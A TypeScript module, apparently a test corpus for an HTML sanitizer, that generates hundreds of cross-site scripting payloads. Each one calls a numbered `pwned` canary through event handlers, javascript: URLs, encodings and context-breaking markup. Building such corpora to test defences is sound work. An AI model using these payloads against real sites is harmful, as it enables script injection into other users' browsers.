/** Texts that run in a page that takes them for markup: each calls `pwned` in a way of its own. */
const call = (n: number) => `pwned(${n})`;
let number = 0;
const next = () => call(++number);

const tags = [
  ...['img src=x', 'svg', 'video src=x', 'audio src=x', 'body', 'input autofocus', 'details open', 'marquee'],
  ...[
    'iframe',
    'object data=x',
    'embed src=x',
    'select autofocus',
    'textarea autofocus',
    'button',
    'a tabindex=0',
  ],
  ...['math', 'style', 'link rel=stylesheet href=x', 'template', 'x contenteditable'],
];
const events = [
  ...[
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onbegin',
    'onanimationstart',
    'onpointerenter',
    'onscrollend',
  ],
  ...['onbeforeinput', 'oncontentvisibilityautostatechange'],
];
const byEvent = tags.flatMap((tag) => events.map((event) => `<${tag} ${event}="${next()}">x`));

const schemes = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java&#10;script:', '&#106;avascript:'],
  ...['javascript&colon;', '\u0001javascript:', 'vbscript:', 'data:text/html,<script>parent.'],
];
const places: ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><input type=submit autofocus></form>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
  (to) => `<math href="${to}">x</math>`,
  (to) => `<base href="${to}">`,
  (to) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to) => `<svg><use href="${to}"/><animate attributeName=href values="${to}"/></svg>`,
  (to) => `<div style="background:url('${to}')">x</div>`,
  (to) => `[x](${to})`,
];
const byAddress = schemes.flatMap((scheme) => places.map((place) => place(`${scheme}${next()}`)));

const breakers = [
  ...[
    '',
    '">',
    "'>",
    '-->',
    ']]>',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
  ],
  ...[
    '<!--',
    '<![CDATA[',
    '<?x ',
    '<svg><style>',
    '<math><mtext><table><mglyph><style>',
    '<select><template>',
  ],
  ...[
    '<form><math><mtext></form><form><mglyph><style></math>',
    '<p data-node="paragraph" title="',
    '\u0000<',
  ],
];
const bodies: ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `&lt;img src=x onerror=${run}&gt;`,
  (run) => `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `{{constructor.constructor('${run}')()}}\${${run}}`,
  (run) => `<svg><script href="data:,${run}"/></svg>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<style>@import 'javascript:${run}';*{x:expression(${run})}</style>`,
  (run) => `<p data-node="agreement" data-owner='"onclick=${run}' onclick="${run}">x</p>`,
];
const byBreaking = breakers.flatMap((breaker) => bodies.map((body) => breaker + body(next())));

export const payloads: readonly string[] = [...byEvent, ...byAddress, ...byBreaking];

/** So many together, as one paste or one text. */
export function batches(size: number): string[][] {
  return Array.from({ length: Math.ceil(payloads.length / size) }, (_, at) =>
    payloads.slice(at * size, (at + 1) * size),
  );
}
